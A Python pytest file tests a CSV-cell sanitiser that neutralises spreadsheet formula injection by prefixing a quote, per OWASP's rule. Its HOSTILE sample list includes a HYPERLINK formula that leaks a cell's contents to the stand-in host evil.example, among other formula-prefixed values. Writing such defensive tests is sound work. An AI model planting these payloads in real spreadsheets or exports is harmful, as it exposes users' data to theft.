"""CSV cells that a spreadsheet would run as formulas are neutralised (OWASP's prefix rule)."""

from __future__ import annotations

import csv
import io

import pytest

from services.common.csv_cells import BOM, safe_cell, safe_row

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_starting_like_a_formula_is_quoted(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["田中 美咲", "can_deploy", "", "a=b", "2026-12-07", None, -3, 4.5]
)
def test_other_cells_are_left_as_they_are(value: object) -> None:
    assert safe_cell(value) == value


def test_a_written_row_reads_back_with_no_cell_a_formula() -> None:
    out = io.StringIO()
    out.write(BOM)
    writer = csv.DictWriter(out, fieldnames=[str(i) for i in range(len(HOSTILE))])
    writer.writeheader()
    writer.writerow(safe_row({str(i): v for i, v in enumerate(HOSTILE)}))
    data = out.getvalue().encode("utf-8")
    assert data.startswith(b"\xef\xbb\xbf")
    row = next(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert all(cell.startswith("'") for cell in row.values())
